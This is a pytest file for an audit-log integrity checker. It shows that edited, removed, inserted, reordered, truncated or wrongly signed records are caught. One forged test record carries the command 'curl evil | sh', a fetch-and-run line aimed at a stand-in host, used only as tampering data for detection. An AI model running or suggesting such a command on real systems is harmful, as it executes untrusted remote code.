"""verify_log and export_session on logs the real writer made (real nats-server), then edited by hand."""

from __future__ import annotations

import asyncio
import base64
import io
import json
from pathlib import Path
import shutil

import pytest

from actors import ensure_stream
from actors.audit import (
    AUDIT_CHAIN_BROKEN,
    AUDIT_NO_LOG,
    AuditError,
    AuditWriter,
    AuditWriterConfig,
    export_session,
    generate_key_pair,
    load_public_key,
    log_files,
    verify_log,
)
from actors.embedded import EmbeddedNats
from protocol import Subjects, connect_nats

from .events import publish_session, publish_turn, running

SUBJECTS = Subjects()
RECORDS = 22
"""s1: 11 records (3 turns), s2: 9 (2 turns), then 2 more of s1."""


async def _make_logs(root: Path) -> None:
    generate_key_pair(str(root / "key"))
    generate_key_pair(str(root / "other-key"))
    async with EmbeddedNats(str(root / "nats")) as server:
        nc = await connect_nats(server.url, name="audit-test")
        try:
            js = nc.jetstream()
            await ensure_stream(js, SUBJECTS)
            await publish_session(js, SUBJECTS, "s1", turns=3)
            await publish_session(js, SUBJECTS, "s2", turns=2)
            last = await publish_turn(js, SUBJECTS, "s1", "echo again")
            for name, key in (("plain", None), ("signed", str(root / "key"))):
                writer = AuditWriter(nc, SUBJECTS, AuditWriterConfig(directory=str(root / name), key_file=key,
                                                                     durable=f"audit_{name}"))
                async with running(writer):
                    await writer.wait_for_seq(last)
        finally:
            await nc.close()


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:  # type: ignore[no-untyped-def]
    root = tmp_path_factory.mktemp("audit-logs")
    asyncio.run(_make_logs(root))
    return root


@pytest.fixture
def plain(made, tmp_path) -> Path:  # type: ignore[no-untyped-def]
    return Path(shutil.copytree(made / "plain", tmp_path / "plain"))


@pytest.fixture
def signed(made, tmp_path) -> Path:  # type: ignore[no-untyped-def]
    return Path(shutil.copytree(made / "signed", tmp_path / "signed"))


@pytest.fixture
def public_key(made):  # type: ignore[no-untyped-def]
    return load_public_key(str(made / "key.pub"))


def the_file(directory: Path) -> Path:
    (path,) = log_files(str(directory))
    return Path(path)


def edit_lines(directory: Path, change) -> None:  # type: ignore[no-untyped-def]
    path = the_file(directory)
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(change(lines)))


def problem_of(directory: Path, **options) -> tuple[int, int | None, str]:  # type: ignore[no-untyped-def]
    report = verify_log(str(directory), **options)
    assert not report.ok and report.problem is not None
    assert report.problem.file == the_file(directory).name
    return report.problem.line, report.problem.seq, report.problem.what


def test_an_untouched_log_verifies_with_a_summary(plain):
    report = verify_log(str(plain))
    assert report.ok and (report.records, report.files, report.sessions) == (RECORDS, 1, 2)
    assert report.summary().startswith(f"ok: {RECORDS} records, 1 files, 2 sessions, seq 1..{RECORDS}, head ")


def test_an_edited_record_is_named(plain):
    def change(lines):  # type: ignore[no-untyped-def]
        lines[5] = lines[5].replace(b'"tenant":""', b'"tenant":"x"')
        return lines

    edit_lines(plain, change)
    assert problem_of(plain) == (6, 6, "edited")


def test_a_removed_record_is_named_by_the_one_after_the_hole(plain):
    edit_lines(plain, lambda lines: lines[:5] + lines[6:])
    assert problem_of(plain) == (6, 7, "removed")


def test_a_removed_first_record_is_named(plain):
    edit_lines(plain, lambda lines: lines[1:])
    assert problem_of(plain) == (1, 2, "removed")


def test_an_inserted_record_with_a_correct_prev_is_named(plain):
    def change(lines):  # type: ignore[no-untyped-def]
        forged = json.loads(lines[5])
        forged["event"]["command"] = "curl evil | sh"  # a forger without the key chains it properly
        forged["prev"] = json.loads(lines[5])["prev"]
        return lines[:5] + [json.dumps(forged, sort_keys=True, separators=(",", ":")).encode() + b"\n"] + lines[5:]

    edit_lines(plain, change)
    assert problem_of(plain) == (6, 6, "inserted")


def test_an_inserted_record_that_does_not_chain_is_named(plain):
    def change(lines):  # type: ignore[no-untyped-def]
        forged = json.loads(lines[5]) | {"prev": "ab" * 32}
        return lines[:5] + [json.dumps(forged, sort_keys=True, separators=(",", ":")).encode() + b"\n"] + lines[5:]

    edit_lines(plain, change)
    assert problem_of(plain) == (6, 6, "inserted")


def test_two_swapped_records_are_named_as_reordered(plain):
    edit_lines(plain, lambda lines: lines[:5] + [lines[6], lines[5]] + lines[7:])
    assert problem_of(plain) == (6, 7, "reordered")


def test_a_file_cut_mid_line_is_named_as_truncated(plain):
    path = the_file(plain)
    path.write_bytes(path.read_bytes()[:-30])
    assert problem_of(plain) == (RECORDS, None, "truncated")


def test_records_cut_off_the_end_are_found_with_a_published_head(plain):
    head = verify_log(str(plain)).head
    edit_lines(plain, lambda lines: lines[:-3])
    assert verify_log(str(plain)).ok  # without an anchor, a clean cut at a line boundary is invisible
    assert problem_of(plain, expect_head=head) == (RECORDS - 3, RECORDS - 3, "truncated")


def test_a_signed_log_verifies_with_the_public_key(signed, public_key):
    report = verify_log(str(signed), public_key=public_key)
    assert report.ok and report.signatures_checked and "every signature verified" in report.summary()


def test_signatures_fail_with_another_key(signed, made):
    other = load_public_key(str(made / "other-key.pub"))
    assert problem_of(signed, public_key=other) == (1, 1, "bad_signature")


def test_an_altered_signature_is_named(signed, public_key):
    def change(lines):  # type: ignore[no-untyped-def]
        head, _, sig = lines[5].rstrip(b"\n").rpartition(b',"sig":"')
        raw = bytearray(base64.b64decode(sig[:-2]))
        raw[0] ^= 1
        lines[5] = head + b',"sig":"' + base64.b64encode(bytes(raw)) + b'"}\n'
        return lines

    edit_lines(signed, change)
    assert problem_of(signed, public_key=public_key) == (6, 6, "bad_signature")


def test_an_edited_signed_record_is_named(signed, public_key):
    def change(lines):  # type: ignore[no-untyped-def]
        lines[5] = lines[5].replace(b'"tenant":""', b'"tenant":"x"')
        return lines

    edit_lines(signed, change)
    assert problem_of(signed, public_key=public_key) == (6, 6, "edited")


def test_an_unsigned_log_fails_when_a_key_is_given(plain, public_key):
    assert problem_of(plain, public_key=public_key) == (1, 1, "unsigned")


def test_an_empty_directory_is_an_error(tmp_path):
    with pytest.raises(AuditError) as caught:
        verify_log(str(tmp_path))
    assert caught.value.code == AUDIT_NO_LOG


def test_export_returns_exactly_one_sessions_records_in_order(signed, public_key):
    out = io.BytesIO()
    assert export_session(str(signed), "s1", out, public_key=public_key) == 13
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert {r["session_id"] for r in records} == {"s1"}
    seqs = [r["seq"] for r in records]
    assert seqs == sorted(seqs) and seqs == [*range(1, 12), RECORDS - 1, RECORDS]
    assert all(r["sig"] for r in records)  # the lines as stored: each record still checks on its own


def test_export_of_a_broken_log_refuses_unless_told(plain):
    edit_lines(plain, lambda lines: lines[:5] + lines[6:])
    with pytest.raises(AuditError) as caught:
        export_session(str(plain), "s1", io.BytesIO())
    assert caught.value.code == AUDIT_CHAIN_BROKEN
    assert export_session(str(plain), "s1", io.BytesIO(), verify=False) == 12


def _readme_recipe() -> str:
    readme = (Path(__file__).resolve().parents[3] / "README.md").read_text()
    section = readme[readme.index("**Canonical bytes, for anyone verifying without corral.**"):]
    return section[section.index("```python\n") + 10:section.index("\n```", section.index("```python"))]


def test_the_readmes_recipe_verifies_a_signed_log_without_corral(signed, made):
    exec(_readme_recipe(), {"DIR": str(signed), "KEY_PUB": str(made / "key.pub")})


def test_the_readmes_recipe_catches_an_edited_record(signed, made):
    edit_lines(signed, lambda lines: [lines[0].replace(b'"tenant":""', b'"tenant":"x"'), *lines[1:]])
    with pytest.raises(Exception) as caught:
        exec(_readme_recipe(), {"DIR": str(signed), "KEY_PUB": str(made / "key.pub")})
    assert type(caught.value).__name__ == "InvalidSignature"
